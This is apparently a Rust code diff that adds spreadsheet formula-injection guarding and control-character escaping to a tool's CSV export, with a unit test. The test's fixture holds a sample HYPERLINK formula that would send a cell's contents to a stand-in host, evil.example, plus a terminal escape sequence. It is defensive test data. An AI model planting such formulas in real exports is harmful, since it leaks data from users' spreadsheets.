@@ -11,8 +11,12 @@ use crate::output;
 pub enum Format {
     /// Aligned columns for people, cut to the terminal's width
     Table,
-    /// RFC 4180 CSV with a header line, for spreadsheets and scripts
+    /// RFC 4180 CSV with a header line, for spreadsheets: a text cell a spreadsheet would run
+    /// as a formula (starting with =, +, -, @, tab or CR) gets a leading ' so it shows as
+    /// text; control characters other than line breaks are written as \xNN
     Csv,
+    /// The same CSV without the leading ', for scripts that want the values as they are
+    CsvRaw,
     /// An array of objects, one per row
     Json,
 }
@@ -22,7 +26,8 @@ pub enum Format {
 pub fn write_rows(rows: &Rows, format: Format, width: Option<usize>) -> Result<()> {
     let text = match format {
         Format::Table => table(rows, width),
-        Format::Csv => csv(rows),
+        Format::Csv => csv(rows, true),
+        Format::CsvRaw => csv(rows, false),
         Format::Json => json(rows)?,
     };
     output::write_bytes(text.as_bytes())
@@ -130,7 +135,7 @@ fn pad(text: &str, width: usize, right: bool) -> String {
     }
 }
 
-fn csv(rows: &Rows) -> String {
+fn csv(rows: &Rows, guard_formulas: bool) -> String {
     let field = |text: &str| {
         if text.contains([',', '"', '\n', '\r']) {
             format!("\"{}\"", text.replace('"', "\"\""))
@@ -138,14 +143,28 @@ fn csv(rows: &Rows) -> String {
             text.to_string()
         }
     };
+    let text_cell = |value: &Value| {
+        let text = output::terminal_safe(&cell(value)).into_owned();
+        let runs = text.starts_with(['=', '+', '-', '@', '\t', '\r']);
+        if guard_formulas && matches!(value, Value::Text(_)) && runs {
+            format!("'{text}")
+        } else {
+            text
+        }
+    };
     let mut out = String::new();
     let mut line = |cells: Vec<String>| {
         out.push_str(&cells.iter().map(|c| field(c)).collect::<Vec<_>>().join(","));
         out.push_str("\r\n");
     };
-    line(rows.columns.clone());
+    line(
+        rows.columns
+            .iter()
+            .map(|c| output::terminal_safe(c).into_owned())
+            .collect(),
+    );
     for row in &rows.rows {
-        line(row.iter().map(cell).collect());
+        line(row.iter().map(text_cell).collect());
     }
     out
 }
@@ -209,9 +228,38 @@ mod tests {
     }
 
     #[test]
+    fn csv_neutralises_formulas_and_control_characters() {
+        let rows = Rows {
+            columns: vec!["text".into(), "n".into()],
+            rows: vec![
+                vec![
+                    Value::Text("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")".into()),
+                    Value::Integer(-5),
+                ],
+                vec![Value::Text("+4930123".into()), Value::Real(-1.5)],
+                vec![Value::Text("bell\u{7} esc\u{1b}[2J".into()), Value::Null],
+            ],
+        };
+        let guarded = csv(&rows, true);
+        assert!(guarded.contains("\"'=HYPERLINK"), "{guarded}");
+        assert!(guarded.contains("'+4930123,-1.5"), "{guarded}");
+        assert!(
+            guarded.contains(",-5\r\n"),
+            "numbers stay numbers: {guarded}"
+        );
+        assert!(guarded.contains("bell\\x07 esc\\x1b[2J"), "{guarded}");
+        assert!(!guarded.contains('\u{1b}'));
+        let raw = csv(&rows, false);
+        assert!(
+            raw.contains("\"=HYPERLINK") && raw.contains("\n+4930123,"),
+            "{raw}"
+        );
+    }
+
+    #[test]
     fn csv_quotes_what_needs_it() {
         assert_eq!(
-            csv(&sample()),
+            csv(&sample(), true),
             "name,calls\r\n\"Jürgen \"\"JJ\"\", Müller\",12\r\n\"a\nb\",\r\n"
         );
     }
